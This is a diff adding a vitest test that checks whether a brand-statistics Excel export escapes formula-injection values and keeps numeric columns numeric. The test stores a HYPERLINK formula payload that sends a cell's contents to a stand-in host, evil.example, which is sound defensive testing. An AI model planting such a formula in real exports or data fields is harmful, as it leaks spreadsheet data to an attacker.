@@ -1,4 +1,5 @@
 /** Wallet history, top-up requests, storage by area, teams and the usage-statistics range rule. */
+import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createTestApp, type TestApp } from '../test-support/test-app.ts';
 
@@ -24,6 +25,29 @@ describe('GET /brand/stats: the range cannot go beyond today (the server clock: 
   it('accepts a range ending today', async () => {
     const agent = await t.signIn('manager@example.com');
     expect((await agent.get('/server/api/v1/brand/stats?from=2025-06-01&to=2025-06-15')).statusCode).toBe(200);
+  });
+
+  it('writes no cell a spreadsheet would run as a formula, and keeps the numbers numbers', async () => {
+    const label = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the report")';
+    const before = t.db.prepare('SELECT label FROM brands WHERE id = 1').pluck().get() as string;
+    t.db.prepare('UPDATE brands SET label = ? WHERE id = 1').run(label);
+    try {
+      const agent = await t.signIn('manager@example.com');
+      const res = await agent.get('/server/api/v1/brand/stats?from=2025-05-01&to=2025-06-15');
+      const book = new ExcelJS.Workbook();
+      await book.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
+      expect(book.getWorksheet('Brand')!.getCell('B1').value).toBe(`'${label}`);
+      const usage = book.getWorksheet('Usage')!;
+      const rows = (usage.getSheetValues() as unknown[][]).filter(Boolean).map((row) => row.slice(1));
+      expect(rows[0]).toEqual(['Date', 'Credits spent', 'Renders']);
+      expect(rows.length).toBeGreaterThan(2);
+      for (const [day, spent, renders] of rows.slice(1)) {
+        expect([typeof day, typeof spent, typeof renders]).toEqual(['string', 'number', 'number']);
+      }
+      expect(rows.at(-1)![0]).toBe('Total');
+    } finally {
+      t.db.prepare('UPDATE brands SET label = ? WHERE id = 1').run(before);
+    }
   });
 });
 
